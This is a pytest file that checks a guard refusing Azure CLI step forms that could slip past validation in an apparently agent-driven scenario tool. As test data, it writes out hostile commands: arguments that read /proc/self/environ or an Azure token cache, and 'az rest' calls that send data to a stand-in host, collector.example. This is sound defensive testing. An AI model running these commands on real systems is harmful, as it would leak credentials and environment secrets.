"""The step guard reads a step as az parses it: every form that could slip past it is refused.

Issue 16 finding 5: attached short options, abbreviated long options, ``--opt=value``, file-reading
arguments and ``az rest`` to another host all passed ``scenarios validate``. Each is refused here by
the validator (with the file and step named) and by the agent's check of the rendered arguments.
tests/test_azcli_parser.py shows, with az's own parser, that these forms mean what they are refused for.
"""

from __future__ import annotations

import textwrap

import pytest

from haymaker.agent.render import StepRefused, placeholder_values, render_step
from haymaker.cli import main
from scenarios.steps import check_argv, check_step

# A scenario of our own (not the catalog's), valid as written; a test puts one step in its operate phase.
SCENARIO = textwrap.dedent("""\
    name: networking-90-guard-fixture
    area: networking
    title: Guard fixture
    description: A small network a test uses to put one step in front of the validator.
    company: {name: Fixture Ltd, industry: testing, employees: 10, team: network, country: DE}
    azure_roles: [Network Contributor]
    services: [Microsoft.Network/virtualNetworks]
    estimated_hourly_cost_usd: 0
    phases:
      deploy:
        - name: create-vnet
          run: az network vnet create --resource-group ${RESOURCE_GROUP} --name vnet-a --address-prefixes 10.0.0.0/16
          expect: [Microsoft.Network/virtualNetworks/write]
        - name: show-vnet
          run: az network vnet show --resource-group ${RESOURCE_GROUP} --name vnet-a
      operate:
        - name: list-vnets
          run: az network vnet list --resource-group ${RESOURCE_GROUP}
        - name: the-step
          run: STEP
        - name: show-vnet-again
          run: az network vnet show --resource-group ${RESOURCE_GROUP} --name vnet-a
        - name: list-subnets
          run: az network vnet subnet list --resource-group ${RESOURCE_GROUP} --vnet-name vnet-a
        - name: list-vnets-again
          run: az network vnet list --resource-group ${RESOURCE_GROUP}
      cleanup:
        - name: delete-vnet
          run: az network vnet delete --resource-group ${RESOURCE_GROUP} --name vnet-a
          expect: [Microsoft.Network/virtualNetworks/delete]
    """)
STEP_PATH = "phases.operate[1].run"
# The schema refuses these before the step check sees them.
SCHEMA_REFUSES = {"options before the command": "does not match '^az [a-z]'"}

RG = "${RESOURCE_GROUP}"
SCOPE = "/subscriptions/${SUBSCRIPTION_ID}/resourceGroups/${RESOURCE_GROUP}"
GRAPH_GROUP = ('\'{"displayName":"haymaker-${RUN_ID}-ops","mailNickname":"ops","owners@odata.bind":'
               '["https://graph.microsoft.com/v1.0/directoryObjects/${AGENT_OBJECT_ID}"]}\'')
# name -> (step, a fragment of the refusal)
BYPASSES = {
    "attached short option": ("az network vnet list -gfinance-prod", "az would read this as -g with the value"),
    "attached short option, same group": (f"az network vnet list -g{RG}", "short options stand alone"),
    "abbreviated --resource-group": ("az network vnet list --resource-gr finance-prod", "may be read as --resource-group"),
    "abbreviated --subscription": ("az network vnet list --resource-group ${RESOURCE_GROUP} --subs 0000",
                                   "--subs may be read as --subscription"),
    "abbreviated --scope": ("az role assignment list --scop /subscriptions/${SUBSCRIPTION_ID}", "may be read as --scope"),
    "abbreviated group name": ("az group update --nam finance-prod --tags a=b", "may be read as --name or --resource-group"),
    "--opt=value": ("az network vnet list --resource-group=finance-prod", "as two arguments (--resource-group <value>)"),
    "--opt=value, same group": (f"az network vnet list --resource-group={RG}", "not --resource-group=<value>"),
    "-x=value": ("az network vnet list -g=finance-prod", "not -g=<value>"),
    "--subscription=value": ("az network vnet list --resource-group ${RESOURCE_GROUP} --subscription=0000",
                             "not --subscription=<value>"),
    "@file": ("az keyvault secret set --vault-name kv --name s --value @/proc/self/environ", "read a local file"),
    "KEY=@file": ("az webapp config appsettings set --resource-group ${RESOURCE_GROUP} --name app "
                  "--settings LEAK=@/proc/self/environ", "read a local file"),
    "--file": ("az network vnet list --resource-group ${RESOURCE_GROUP} --file /proc/1/environ", "may not name files"),
    "--*-file": ("az deployment group create --resource-group ${RESOURCE_GROUP} --template-file main.json",
                 "may not name files"),
    "a path az reads": ("az vm create --resource-group ${RESOURCE_GROUP} --name vm --image Ubuntu2204 "
                        "--custom-data /proc/self/environ", "looks like a local path"),
    "a home path": ("az vm create --resource-group ${RESOURCE_GROUP} --name vm --image Ubuntu2204 "
                    "--ssh-key-values ~/.azure/msal_token_cache.json", "looks like a local path"),
    "a relative path out": ("az vm create --resource-group ${RESOURCE_GROUP} --name vm --image Ubuntu2204 "
                            "--custom-data ../../proc/self/environ", "looks like a local path"),
    "az rest elsewhere": ("az rest --method get --url https://collector.example/x", "may call only"),
    "az rest userinfo": ("az rest --method get --url https://management.azure.com@collector.example/x", "may call only"),
    "az rest port": ("az rest --method get --url https://management.azure.com:8443/subscriptions", "may call only"),
    "az rest http": ("az rest --method get --url http://graph.microsoft.com/v1.0/me", "may call only"),
    "az rest look-alike host": ("az rest --method get --url https://graph.microsoft.com.collector.example/v1.0",
                                "may call only"),
    "az rest protocol-relative": ("az rest --method get --url //collector.example/x", "may call only"),
    "az rest second --url": ("az rest --method get --url https://graph.microsoft.com/v1.0/groups "
                             "--url https://collector.example/x", "may call only"),
    "az rest --uri=": ("az rest --method get --uri=https://collector.example/x", "as two arguments"),
    "az rest --resource": ("az rest --method get --url https://graph.microsoft.com/v1.0/groups "
                           "--resource https://vault.azure.net", "az rest --resource"),
    "az rest --headers Authorization": ("az rest --method get --url https://graph.microsoft.com/v1.0/groups "
                                        "--headers Authorization=Bearer-x", "only consistencylevel, content-type"),
    "az rest --headers JSON": ("az rest --method get --url https://graph.microsoft.com/v1.0/groups "
                               "--headers Content-Type=application/json '{\"Authorization\":\"x\"}'", "headers"),
    "az rest --output-file": ("az rest --method get --url https://graph.microsoft.com/v1.0/groups "
                              "--output-file /tmp/x", "az rest --output-file"),
    "az rest abbreviated --url": ("az rest --method get --ur https://collector.example/x", "az rest --ur"),
    "Graph create with a second body": (f"az rest --method post --url https://graph.microsoft.com/v1.0/groups --body "
                                        f"{GRAPH_GROUP} --body '{{\"displayName\":\"finance\"}}'",
                                        "Entra objects must be named haymaker-${RUN_ID}-"),
    "options before the command": ("az --resource-group ${RESOURCE_GROUP} network vnet list", "the command comes first"),
}


@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_each_bypass_form_is_refused_by_the_step_check(name):
    run, fragment = BYPASSES[name]
    problems = check_step(run)
    assert any(fragment in p for p in problems), problems


@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_each_bypass_form_is_refused_by_scenarios_validate_naming_the_file_and_step(name, tmp_path, capsys):
    run, fragment = BYPASSES[name][0], SCHEMA_REFUSES.get(name, BYPASSES[name][1])
    path = tmp_path / "networking-90-guard-fixture.yaml"
    path.write_text(SCENARIO.replace("run: STEP", f"run: {run}"))
    assert main(["scenarios", "validate", str(path)]) == 1
    err = capsys.readouterr().err
    assert any(line.startswith(f"{path}: {STEP_PATH}: ") and fragment in line for line in err.splitlines()), err
    assert "Traceback" not in err


def test_the_fixture_scenario_is_valid_with_a_plain_step(tmp_path, capsys):
    path = tmp_path / "networking-90-guard-fixture.yaml"
    path.write_text(SCENARIO.replace("run: STEP", f"run: az network vnet list --resource-group {RG} --output table"))
    assert main(["scenarios", "validate", str(path)]) == 0, capsys.readouterr().err


def values(**over):
    base = placeholder_values(run_id="20261128t0900z-ab12", scenario="s", resource_group="haymaker-20261128t0900z-ab12-s",
                              location="westeurope", subscription_id="00000000-0000-0000-0000-000000000001",
                              tenant_id="t", client_id="c", agent_object_id="o", password="Pw1!" + "x" * 20)
    return {**base, **over}


@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_the_agent_refuses_each_bypass_before_running_it(name):
    with pytest.raises(StepRefused):
        render_step(BYPASSES[name][0], values())


def test_the_agent_checks_the_rendered_arguments_too():
    """A rendered argument list can hold what the catalog file could not (a value that renders into a form)."""
    rg = values()["RESOURCE_GROUP"]
    ok = ["az", "network", "vnet", "list", "--resource-group", rg]
    assert check_argv(ok, resource_group=rg) == []
    for bad in (["az", "network", "vnet", "list", f"-g{rg}"], ["az", "network", "vnet", "list", "--resource-gr", "x"],
                ["az", "rest", "--url", "https://collector.example"]):
        assert check_argv(bad, resource_group=rg), bad


@pytest.mark.parametrize("run", [
    f"az network vnet list --resource-group {RG} --output table",
    f"az network vnet list -g {RG} -o table",
    f"az monitor metrics list --resource {SCOPE}/providers/Microsoft.Web/sites/app --metrics Requests",
    f"az network lb probe create -g {RG} --lb-name lb --name p --protocol Http --port 80 --path /",
    f"az cosmosdb sql container create -g {RG} -a acct -d db -n c --partition-key-path /imprint",
    f"az network nsg rule create -g {RG} --nsg-name n -n r --priority 100 --source-port-ranges -1",
    f"az webapp config appsettings set -g {RG} -n app --settings MODE=blue owner=ops@example.com",
    f"az role assignment list --scope {SCOPE}",
    f"az rest --method get --url https://management.azure.com{SCOPE}/providers/Microsoft.Web/sites?api-version=2024-04-01",
    f"az rest --method get --url {SCOPE}?api-version=2021-04-01",
    "az rest --method get --url https://graph.microsoft.com/v1.0/groups --headers ConsistencyLevel=eventual",
    f"az rest --method post --url https://graph.microsoft.com/v1.0/groups --body {GRAPH_GROUP}",
    "az vm run-command invoke -g ${RESOURCE_GROUP} -n vm --command-id RunShellScript --scripts 'sudo logrotate -f /etc/x'",
])
def test_plain_forms_still_pass(run):
    assert check_step(run) == []
